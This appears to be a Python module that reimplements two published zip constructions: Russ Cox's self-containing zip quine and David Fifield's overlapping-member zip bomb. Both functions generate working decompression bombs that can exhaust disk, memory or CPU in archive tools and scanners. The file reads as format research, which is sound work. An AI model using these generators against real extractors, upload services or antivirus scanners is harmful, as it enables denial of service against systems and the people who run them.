"""A zip that holds itself, byte for byte, and one whose members overlap: bombs without a bottom.

The first follows Russ Cox, *Zip Files All The Way Down* (2010): a program for DEFLATE that prints itself, of
two orders, "take these bytes" and "repeat the last ones", with the head of the archive before it and its
list behind it. The checksum of the whole, which is in it too, is the solution of 32 linear equations.
The second follows David Fifield, *A better zip bomb* (2019).
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence
from typing import Final

_NAME: Final = b"again.zip"
#: Where the lengths and distances of DEFLATE's codes begin, and how many bits tell the rest.
_LENGTHS: Final = [
    *((3 + n, 0) for n in range(8)), *((11 + 2 * n, 1) for n in range(4)),
    *((19 + 4 * n, 2) for n in range(4)), *((35 + 8 * n, 3) for n in range(4)),
    *((67 + 16 * n, 4) for n in range(3)),
]  # fmt: skip
_DISTANCES: Final = [
    (1, 0), (2, 0), (3, 0), (4, 0), (5, 1), (7, 1), (9, 2), (13, 2), (17, 3), (25, 3), (33, 4), (49, 4),
    (65, 5), (97, 5),
]  # fmt: skip


def _take(count: int, *, last: bool = False) -> bytes:
    """Return the order to take so many bytes that follow."""
    return struct.pack("<BHH", last, count, count ^ 0xFFFF)


def _repeat(*blocks: Sequence[int]) -> bytes:
    """Return the order to repeat the last bytes, as many as the lengths make together.

    Each block of lengths costs ten bits more: so the order can be made to end with a byte.
    """
    distance = sum(map(sum, blocks))
    bits = ""
    for lengths in blocks:
        bits += "010"
        for length in lengths:
            bits += _coded(length, _LENGTHS, 1, 7) + _coded(distance, _DISTANCES, 0, 5)
        bits += "0" * 7
    assert len(bits) % 8 == 0
    return bytes(int(bits[at : at + 8][::-1], 2) for at in range(0, len(bits), 8))


def _coded(value: int, codes: Sequence[tuple[int, int]], first: int, width: int) -> str:
    """Return a value's code, its high bit first, and the bits that tell the rest, their low bit first."""
    number = max(number for number, (start, _) in enumerate(codes) if start <= value)
    start, more = codes[number]
    return f"{number + first:0{width}b}" + (f"{value - start:0{more}b}"[::-1] if more else "")


def quine() -> bytes:
    """Return a zip whose one member is that zip."""
    size = len(_whole(0, 0))
    base = zlib.crc32(_whole(0, size))
    # What each bit of the checksum in the file changes in the checksum of the file, and in itself.
    rows = [zlib.crc32(_whole(1 << bit, size)) ^ base ^ 1 << bit for bit in range(32)]
    checksum = _solved(rows, base)
    whole = _whole(checksum, size)
    assert zlib.crc32(whole) == checksum
    return whole


def _whole(checksum: int, size: int) -> bytes:
    about = struct.pack("<HHHHH", 20, 0, 8, 0, 0x5021) + struct.pack("<III", checksum, 0, size)
    extra = struct.pack("<HH", 0x7171, 12) + bytes(12)

    def described(packed: int) -> bytes:
        sizes = struct.pack("<II", packed, size)
        return about[:14] + sizes + struct.pack("<HH", len(_NAME), len(extra))

    def head(packed: int) -> bytes:
        return b"PK\3\4" + described(packed) + _NAME + extra

    def end(packed: int) -> bytes:
        listed = b"PK\1\2\x14\0" + described(packed)[:-2] + bytes(2 + 2 + 2 + 2 + 4 + 4) + _NAME
        place = struct.pack("<HHHHIIH", 0, 0, 1, 1, len(listed), len(head(0)) + packed, 0)
        return _take(0, last=True) + listed + b"PK\5\6" + place

    before = len(head(0)) + 5
    first, middle = _repeat([19, 19, 11, 11]), _repeat([10, 5], [10, 5])
    assert (before, len(first), len(middle)) == (60, 10, 10)
    last = _repeat([len(end(0)), 6])
    assert len(last) == 6
    nothing, five, ten, thirty, rest = map(_take, (0, 5, 10, 30, 6 + len(end(0))))

    def made(packed: int) -> bytes:
        prefix, suffix = head(packed), end(packed)
        return b"".join([
            prefix, _take(before), prefix, _take(before), first, ten, first, five, ten, nothing,
            thirty, first, five, ten, nothing, thirty, middle, thirty, middle, thirty, middle, thirty, middle,
            thirty, middle, nothing, nothing, nothing, rest, middle, nothing, nothing, nothing,
            rest, last, suffix, last, suffix,
        ])  # fmt: skip

    # What is packed ends with the order that says so, five bytes into the end.
    return made(len(made(0)) - len(head(0)) - len(end(0)) + 5)


def _solved(rows: Sequence[int], wanted: int) -> int:
    """Return which rows make a number, by exclusive or: a bit for each."""
    kept: dict[int, tuple[int, int]] = {}
    for number, row in enumerate(rows):
        value, used = _reduced(row, 1 << number, kept)
        if value:
            kept[value.bit_length()] = (value, used)
    value, used = _reduced(wanted, 0, kept)
    assert not value, "no checksum fits; change the day in the file"
    return used


def _reduced(value: int, used: int, kept: dict[int, tuple[int, int]]) -> tuple[int, int]:
    for width in sorted(kept, reverse=True):
        if value.bit_length() == width:
            value, used = value ^ kept[width][0], used ^ kept[width][1]
    return value, used


def overlapping(count: int = 200, size: int = 1_000_000) -> bytes:
    """Return a zip of members that share the packed zeros at its end, each behind the heads of the next."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(size)) + packer.flush()
    plain = bytes(size)
    found: list[tuple[bytes, bytes, int, bytes]] = []
    for number in reversed(range(count)):
        if found:
            head = found[-1][0]
            packed = _take(len(head)) + head + packed
            plain = head + plain
        name = b"%04d.txt" % number
        about = struct.pack("<HHHHH", 20, 0, 8, 0, 0x5021)
        about += struct.pack("<IIIHH", zlib.crc32(plain), len(packed), len(plain), len(name), 0)
        found.append((b"PK\3\4" + about + name, packed, len(plain), about))
    found.reverse()
    body, listed = found[0][0] + found[0][1], b""
    for head, data, _, about in found:
        at = len(body) - len(data) - len(head)
        listed += b"PK\1\2\x14\0" + about[:-2] + bytes(12) + struct.pack("<I", at) + head[30:]
    place = struct.pack("<HHHHIIH", 0, 0, count, count, len(listed), len(body), 0)
    return body + listed + b"PK\5\6" + place
